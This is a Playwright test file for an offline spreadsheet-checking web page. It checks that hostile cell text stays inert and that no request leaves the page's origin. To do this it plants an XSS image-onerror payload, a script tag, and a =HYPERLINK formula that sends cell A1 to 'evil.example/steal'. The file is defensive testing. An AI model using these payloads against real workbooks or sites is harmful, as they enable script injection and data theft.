// Nothing leaks, nothing runs: the offline page (served over http) in Chromium, every request recorded through a full
// check and report, and hostile cell text (markup, formulas) shown literally. Needs /usr/bin/chromium and build/index.html.
import ExcelJS from 'exceljs';
import type { Browser, Page } from 'playwright-core';
import type { BuildServer } from '../../scripts/serve-build';
import { SAMPLE_PATH } from '../support/sample';
import { closeBuiltPages, openBuiltPages } from './build-once';

const XSS = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")';

/** The sample with markup as the unit name and a formula-looking text in the score sheet's unit cell. */
async function hostileSample(): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(SAMPLE_PATH);
  wb.getWorksheet('自评数据表')!.getCell('B2').value = XSS;
  wb.getWorksheet('自评评分表')!.getCell('B2').value = FORMULA;
  wb.getWorksheet('报告素材')!.getCell('B15').value = `<script>alert(2)</script>${XSS}`;
  return Buffer.from(await wb.xlsx.writeBuffer());
}

describe('offline page: nothing leaves the page, cell text stays text', () => {
  let server: BuildServer;
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];
  const dialogs: string[] = [];
  const problems: string[] = [];

  beforeAll(async () => {
    ({ server, browser } = await openBuiltPages());
    page = await browser.newPage({ viewport: { width: 420, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
    page.on('request', (request) => requests.push(request.url()));
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('pageerror', (error) => problems.push(error.message));
    page.on('console', (message) => {
      if (message.type() === 'error') problems.push(message.text());
    });
    // Record, never deliver: a request off the page's origin is aborted (and fails the test below).
    await page.route(/^https?:\/\/(?!127\.0\.0\.1)/, (route) => route.abort());
    await page.goto(`${server.url}/`);
    await page
      .locator('input[type=file]')
      .setInputFiles({ name: 'hostile.xlsx', mimeType: 'application/octet-stream', buffer: await hostileSample() });
    await page.getByRole('tab', { name: '报告' }).waitFor({ timeout: 60_000 });
  }, 180_000);

  afterAll(() => closeBuiltPages({ server, browser }));

  it('runs a full check and report, requesting nothing but its own origin', async () => {
    await page
      .getByRole('button', { name: /^(重新)?检查$/ })
      .first()
      .click();
    await page.getByText(XSS).first().waitFor({ timeout: 20_000 });
    await page.getByRole('tab', { name: '报告' }).click();
    const download = page.waitForEvent('download', { timeout: 20_000 });
    await page.getByRole('button', { name: '导出 Word' }).click();
    // The hostile workbook has error findings too, so the export is a draft the user confirms.
    await page.getByRole('dialog').getByRole('button', { name: '仍然导出草稿' }).click();
    expect((await download).suggestedFilename()).toMatch(/\.docx$/);

    const origin = new URL(server.url).origin;
    const foreign = requests.filter(
      (url) => !url.startsWith(`${origin}/`) && !url.startsWith('blob:') && !url.startsWith('data:'),
    );
    expect(foreign).toEqual([]);
    expect(requests.length).toBeGreaterThan(0);
  });

  it('shows markup and formulas from cells literally: no element is created, no script runs', async () => {
    expect(dialogs).toEqual([]);
    expect(await page.locator('img[src="x"]').count()).toBe(0);
    expect(await page.locator('#root script').count()).toBe(0);
    expect(await page.locator('a[href^="http://evil"]').count()).toBe(0);
    expect(await page.getByText(XSS).count()).toBeGreaterThan(0);
    expect(problems.filter((p) => /Content Security Policy|Refused to/i.test(p))).toEqual([]);
  });
});
